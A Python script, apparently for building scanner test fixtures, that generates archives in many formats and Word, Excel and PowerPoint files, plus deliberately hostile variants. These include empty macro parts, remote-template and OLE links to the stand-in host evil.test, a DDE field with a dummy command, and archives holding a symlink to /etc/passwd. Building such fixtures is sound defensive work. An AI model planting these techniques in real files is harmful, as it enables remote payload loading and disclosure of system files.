"""Archives and office files, each by the tool that people make them with, into a folder: `python archives.py FOLDER`."""

import io
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import docx
import openpyxl
import pptx
import pptx.chart.data
import pptx.enum.chart

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def tree(folder: Path) -> None:
    """What is packed: text, noise, a folder, names in other scripts."""
    (folder / "sub/leer").mkdir(parents=True)
    (folder / "read me.txt").write_text("a line of text\n" * 2000)
    (folder / "sub/报告.csv").write_text("name,age\n" * 500)
    (folder / "sub/noise.bin").write_bytes(bytes((n * n * 31 + n * 7) >> 3 & 0xFF for n in range(70_000)))
    (folder / "sub/empty").write_bytes(b"")


def run(*command: object, cwd: Path, output: Path | None = None) -> None:
    pipe = output.open("wb") if output else subprocess.DEVNULL
    subprocess.run([str(one) for one in command], cwd=cwd, check=True, stdout=pipe)


def archives(out: Path, source: Path) -> None:
    run("zip", "-qr", out / "info-zip.zip", ".", cwd=source)
    run("zip", "-qr0", out / "info-zip-stored.zip", ".", cwd=source)
    run("zip", "-qr", "-", ".", cwd=source, output=out / "info-zip-streamed.zip")
    run("7z", "a", "-bd", "-tzip", out / "seven-zip.zip", ".", cwd=source)
    run("7z", "a", "-bd", "-tzip", "-psecret", out / "locked.zip", ".", cwd=source)
    run("7z", "a", "-bd", out / "closed.7z", ".", cwd=source)
    run("tar", "-czf", out / "gnu.tgz", ".", cwd=source)
    run("tar", "-c", "-z", "--format=pax", "-f", out / "pax.tgz", ".", cwd=source)
    run("gzip", "-kc", "read me.txt", cwd=source, output=out / "text.gz")
    with zipfile.ZipFile(out / "python.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(source.rglob("*")):
            archive.write(path, path.relative_to(source))
        archive.comment = b"made by Python"
    with zipfile.ZipFile(out / "python-zip64.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("large.txt", "w", force_zip64=True) as member:
            member.write(b"text " * 100)
    with tarfile.open(out / "python.tgz", "w:gz") as archive:
        archive.add(source, "files", recursive=True)
    with zipfile.ZipFile(out / "nested.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.write(out / "gnu.tgz", "gnu.tgz")
        archive.write(out / "python.zip", "inner.zip")
    (source / "link").symlink_to("/etc/passwd")
    run("zip", "-qry", out / "link.zip", ".", cwd=source)
    run("tar", "-czf", out / "link.tgz", ".", cwd=source)


def office(out: Path) -> None:
    document = docx.Document()
    document.add_heading("A report", 0)
    document.add_paragraph("With some text.")
    document.add_table(2, 2)
    document.save(out / "report.docx")
    book = openpyxl.Workbook()
    for row in range(50):
        book.active.append([row, f"line {row}", f"=A{row + 1}*2"])
    book.active["D1"].hyperlink = "https://example.com/"
    book.save(out / "book.xlsx")
    slides = pptx.Presentation()
    slide = slides.slides.add_slide(slides.slide_layouts[5])
    slide.shapes.title.text = "A slide"
    chart = pptx.chart.data.CategoryChartData()
    chart.categories = ["a", "b"]
    chart.add_series("s", (1, 2))
    slide.shapes.add_chart(pptx.enum.chart.XL_CHART_TYPE.PIE, 0, 0, 914400, 914400, chart)
    slides.save(out / "slides.pptx")


def changed(source: Path, target: Path, changes: dict[str, bytes | tuple[bytes, bytes]]) -> None:
    """The same package with members added, or with text in them replaced."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            content = old.read(info)
            change = changes.pop(info.filename, None)
            if isinstance(change, tuple):
                assert change[0] in content, f"{info.filename} has no {change[0]!r}"
                content = content.replace(*change)
            new.writestr(info, content)
        for name, content in changes.items():
            new.writestr(name, content)


def relation(kind: str, target: str) -> tuple[bytes, bytes]:
    added = f'<Relationship Id="rX" Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return b"</Relationships>", added.encode()


def hostile(out: Path) -> None:
    word, excel, power = out / "report.docx", out / "book.xlsx", out / "slides.pptx"
    kind = b'<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    macro = {"word/x.bin": b"\x00" * 64, "[Content_Types].xml": (b"</Types>", kind)}
    changed(word, out / "macro.docx", macro)
    changed(excel, out / "macro.xlsx", {"xl/vbaProject.bin": b"\x00" * 64})
    changed(power, out / "macro.pptx", {"ppt/x.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504})
    template = relation(f"{RELATIONS}/attachedTemplate", "http://evil.test/a.dotm")
    changed(word, out / "template.docx", {"word/_rels/document.xml.rels": template})
    frame = relation(f"{RELATIONS}/oleObject", "http://evil.test/a.html!")
    changed(power, out / "object.pptx", {"ppt/_rels/presentation.xml.rels": frame})
    field = b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r>'
    field += b'<w:instrText>AUTO c:\\\\x "y"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body>'
    changed(word, out / "dde.docx", {"word/document.xml": (b"</w:body>", field)})
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.write(out / "macro.docx", "macro.docx")
    (out / "macro-inside.zip").write_bytes(inner.getvalue())


if __name__ == "__main__":
    out = Path(sys.argv[1])
    (out / "source").mkdir()
    tree(out / "source")
    archives(out, out / "source")
    office(out)
    hostile(out)
